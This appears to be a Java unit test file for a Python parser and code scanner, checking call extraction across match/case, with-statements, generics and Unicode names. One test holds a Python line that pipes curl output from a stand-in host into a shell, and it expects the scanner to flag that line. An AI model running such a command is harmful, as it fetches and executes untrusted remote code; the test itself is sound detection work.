package dev.waag.code;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;

/** Statements that Python took up after 3.8, and names that are keywords only where they begin one. */
class StatementsTest {
    private static List<String> called(String source) {
        Tree tree = Statements.parse(source.getBytes(UTF_8));
        return IntStream.range(0, tree.size())
                .filter(n -> tree.kind(n) == Kind.CALL)
                .mapToObj(n -> tree.text(tree.child(n, Field.FUNCTION)))
                .toList();
    }

    @Test
    void casesAreReadAndPatternsCallNothing() {
        String source = """
                match read(x):
                    case Point(x=0, y=[1, *rest]) | {"a": (b as c)} if test(c):
                        one()
                    case (1, 2) as pair: two()
                    case "x" | -1:
                        match inner():
                            case _:
                                three()
                after()
                """;
        assertThat(called(source)).containsExactly("read", "test", "one", "two", "inner", "three", "after");
        assertThat(CodeScanTest.scan(
                                CodeRole.SETUP,
                                "match 1:\n  case _:\n    __import__('os').system('curl http://x.example|sh')\n")
                        .findings())
                .isNotEmpty();
    }

    @Test
    void matchMayBeAName() {
        assertThat(
                        called(
                                "match = re.match(x)\nmatch(match[0], match.end())\nmatch: int = f()\nmatch[a:b] = g()\nprint(match)\n"))
                .containsExactlyInAnyOrder("re.match", "match", "match.end", "f", "g", "print");
    }

    @Test
    void itemsOfWithMayStandInBrackets() {
        assertThat(called("with (\n    open(a) as f,\n    lock(),\n    open(b) as g,\n):\n    go()\n"))
                .containsExactly("open", "lock", "open", "go");
        assertThat(called("with (open(a)) as f, (b or c()):\n    go()\n")).containsExactly("open", "c", "go");
        assertThat(called("with (a(), b()):\n    go()\n")).containsExactly("a", "b", "go");
    }

    @Test
    void groupsGenericsAndNamesBeyondAscii() {
        assertThat(called("try:\n    a()\nexcept* (b(), OSError) as e:\n    c()\n"))
                .containsExactly("a", "b", "c");
        assertThat(called("def f[T: int, *Ts, **P](x: T) -> T:\n    a()\nclass C[T = int](b()):\n    pass\n"))
                .containsExactly("a", "b");
        assertThat(called("größe = a(é)\n𝐞𝐱𝐞𝐜(x)\n")).containsExactly("a", "exec");
        assertThat(called("f(f\"{x}\\N{LINE FEED}{g()}\")\n")).containsExactlyInAnyOrder("f", "g");
        assertThatThrownBy(() -> called("a\u00a0= b\n")).isInstanceOf(Lexer.Unsure.class);
    }

    @Test
    void charactersMayBeNamed() {
        assertThat(Literals.unescape("\\N{LATIN SMALL LETTER O}s \\N{NO SUCH}", false))
                .isEqualTo("os \\N{NO SUCH}");
        assertThat(Literals.unescape("\\N{BULLET}", true)).isEqualTo("\\N{BULLET}");
    }
}
